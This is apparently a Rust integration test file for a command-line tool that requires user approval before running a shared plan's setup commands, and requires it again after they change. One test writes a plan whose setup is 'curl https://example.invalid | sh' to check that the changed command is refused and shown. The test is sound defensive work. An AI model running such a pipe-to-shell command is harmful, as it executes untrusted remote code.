//! Approval of shared plans: `pk up` runs a plan's commands only once the user approved them,
//! and again after they change; without a terminal it refuses (exit 3) unless `--yes`.

use pk_tests::{Run, TestEnv};
use std::process::Command;

fn plan(env: &TestEnv, setup: &str, extra_track: bool) -> String {
    let agent = env.recording_agent();
    let mut plan = format!(
        "[session]\nname = \"shop\"\n[ports]\nbase = 18100\n[env]\nOUT = \"{}\"\n[[track]]\nname = \"api\"\nprompt = \"Add rate limiting\"\nsetup = [\"{setup}\"]\n{agent}\n",
        env.out().display()
    );
    if extra_track {
        plan.push_str(&format!("[[track]]\nname = \"web\"\n{agent}\n"));
    }
    plan
}

fn assert_nothing_made(env: &TestEnv, run: &dyn std::fmt::Display) {
    assert_eq!(env.worktree_list().len(), 1, "no worktree: {run}");
    assert!(!env.repo.join(".git/pk").exists(), "no state: {run}");
    assert!(!env.has_session("shop"), "no session");
}

#[test]
fn without_a_terminal_up_refuses_until_approved_and_again_after_a_change() {
    let Some(env) = TestEnv::with_tmux() else {
        return;
    };
    env.write_plan(&plan(&env, "echo setting up", false));
    let plan_path = std::fs::canonicalize(env.repo.join("parallel.toml")).unwrap();
    let asking = |args: &[&str]| Run::from(env.pk_cmd_asking(args).output().unwrap());

    // Not approved, no terminal: exit 3, the plan and the way out named, nothing made.
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 3, "{run}");
    assert!(
        run.stderr.contains(&format!(
            "the commands of {} are not approved yet",
            plan_path.display()
        )),
        "{run}"
    );
    assert!(run.stderr.contains("setup  echo setting up"), "{run}");
    assert!(run.stderr.contains("--yes"), "{run}");
    assert!(
        run.stderr
            .contains(&format!("pk approve {}", plan_path.display())),
        "{run}"
    );
    assert_nothing_made(&env, &run);

    // `pk check` tells, and changes nothing.
    let check = env.pk_ok(&["check"]);
    assert!(
        check.stdout.contains("commands: not approved yet"),
        "{check}"
    );
    assert!(!env.root().join("state/pk/approvals.json").exists());

    // `--yes` approves and starts; later runs need no flag.
    let run = asking(&["up", "--detach", "--yes"]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stderr.contains("approved (--yes)"), "{run}");
    assert_eq!(env.worktree_list().len(), 2);
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 0, "{run}");
    assert!(run.stderr.contains("up to date"), "{run}");
    assert!(!run.stderr.contains("runs these commands"), "{run}");
    let check = env.pk_ok(&["check"]);
    assert!(check.stdout.contains("commands: approved ("), "{check}");

    // A changed prompt needs no new approval.
    env.write_plan(
        &plan(&env, "echo setting up", false).replace("Add rate limiting", "Something else"),
    );
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 0, "{run}");

    // A changed setup (and a new track) is refused again, showing what changed; the new
    // track is not made.
    env.write_plan(&plan(&env, "curl https://example.invalid | sh", true));
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 3, "{run}");
    assert!(
        run.stderr
            .contains("changed since you approved them, and there is no terminal"),
        "{run}"
    );
    assert!(
        run.stderr.contains("- setup  echo setting up"),
        "the old command, marked gone: {run}"
    );
    assert!(
        run.stderr
            .contains("+ setup  curl https://example.invalid | sh"),
        "the new command, marked new: {run}"
    );
    assert!(run.stderr.contains("track web"), "{run}");
    assert_eq!(env.worktree_list().len(), 2, "web not made: {run}");

    // `pk approve` approves without starting; then `pk up` adds the track.
    let approve = env.pk_ok(&["approve"]);
    assert!(approve.stderr.contains("approved:"), "{approve}");
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 0, "{run}");
    assert_eq!(env.worktree_list().len(), 3);

    // Revoked: asked again.
    env.pk_ok(&["approve", "--revoke"]);
    let run = asking(&["up", "--detach"]);
    assert_eq!(run.code, 3, "{run}");
}

#[test]
fn a_plan_that_runs_only_your_shell_needs_no_approval() {
    let Some(env) = TestEnv::with_tmux() else {
        return;
    };
    env.write_plan("[session]\nname = \"shop\"\n[ports]\nbase = 18200\n[[track]]\nname = \"a\"\nagent = \"shell\"\nprompt = \"look around\"\n");
    let run = Run::from(env.pk_cmd_asking(&["up", "--detach"]).output().unwrap());
    assert_eq!(run.code, 0, "{run}");
    let check = env.pk_ok(&["check"]);
    assert!(
        check.stdout.contains("commands: none to approve"),
        "{check}"
    );
}

/// A terminal for `pk up` to ask in: a pane of a second private tmux server, killed on drop.
struct Terminal<'a> {
    env: &'a TestEnv,
    socket: String,
}

impl<'a> Terminal<'a> {
    /// Runs `pk up --detach` (no `--yes`) in a new terminal, then keeps the pane open.
    fn run_up(env: &'a TestEnv, name: &str) -> Terminal<'a> {
        let socket = format!("{}-{name}", env.socket);
        let script = format!(
            "env -u TMUX {} --socket {} up --detach; echo \"pk exited $?\"; exec sleep 600",
            pk_tests::pk_bin().to_str().unwrap(),
            env.socket
        );
        let term = Terminal { env, socket };
        let run = term.tmux(&[
            "-f",
            "/dev/null",
            "new-session",
            "-d",
            "-s",
            "ask",
            "-x",
            "200",
            "-y",
            "50",
            "-c",
            env.repo.to_str().unwrap(),
            &script,
        ]);
        assert_eq!(run.code, 0, "terminal: {run}");
        term
    }

    fn tmux(&self, args: &[&str]) -> Run {
        let mut cmd = Command::new("tmux");
        self.env.apply_env(&mut cmd);
        cmd.arg("-L").arg(&self.socket).args(args);
        Run::from(cmd.output().unwrap())
    }

    fn screen(&self) -> String {
        self.tmux(&["capture-pane", "-p", "-J", "-t", "=ask:", "-S", "-100"])
            .stdout
    }

    fn wait_for(&self, text: &str) -> String {
        let mut screen = String::new();
        self.env
            .wait_for(&format!("`{text}` on the terminal"), 20, || {
                screen = self.screen();
                screen.contains(text)
            });
        screen
    }

    fn answer(&self, keys: &str) {
        let run = self.tmux(&["send-keys", "-t", "=ask:", keys, "Enter"]);
        assert_eq!(run.code, 0, "{run}");
    }
}

impl Drop for Terminal<'_> {
    fn drop(&mut self) {
        let _ = self.tmux(&["kill-server"]);
    }
}

#[test]
fn on_a_terminal_up_shows_the_commands_and_asks() {
    let Some(env) = TestEnv::with_tmux() else {
        return;
    };
    env.write_plan(&plan(&env, "echo setting up", false));

    // No: refused, nothing made.
    let term = Terminal::run_up(&env, "no");
    let screen = term.wait_for("Run these commands? [y/N]");
    assert!(screen.contains("setup  echo setting up"), "{screen}");
    assert!(screen.contains("track api"), "{screen}");
    term.answer("n");
    let screen = term.wait_for("pk exited");
    assert!(screen.contains("were not approved"), "{screen}");
    assert!(screen.contains("pk exited 3"), "{screen}");
    assert_nothing_made(&env, &screen);
    drop(term);

    // Yes: approved and up; the next run does not ask.
    let term = Terminal::run_up(&env, "yes");
    term.wait_for("Run these commands? [y/N]");
    term.answer("y");
    let screen = term.wait_for("pk exited");
    assert!(screen.contains("pk exited 0"), "{screen}");
    assert_eq!(env.worktree_list().len(), 2);
    let run = Run::from(env.pk_cmd_asking(&["up", "--detach"]).output().unwrap());
    assert_eq!(run.code, 0, "{run}");
}

#[test]
fn the_demo_plan_is_approved_because_pk_wrote_it() {
    let Some(env) = TestEnv::with_tmux() else {
        return;
    };
    let dir = env.root().join("demo");
    env.pk_ok(&["demo", "--detach", "--dir", dir.to_str().unwrap()]);
    let mut check = env.pk_cmd(&["check"]);
    check.current_dir(dir.join("shop"));
    let check = Run::from(check.output().unwrap());
    assert_eq!(check.code, 0, "{check}");
    assert!(check.stdout.contains("commands: approved ("), "{check}");
}
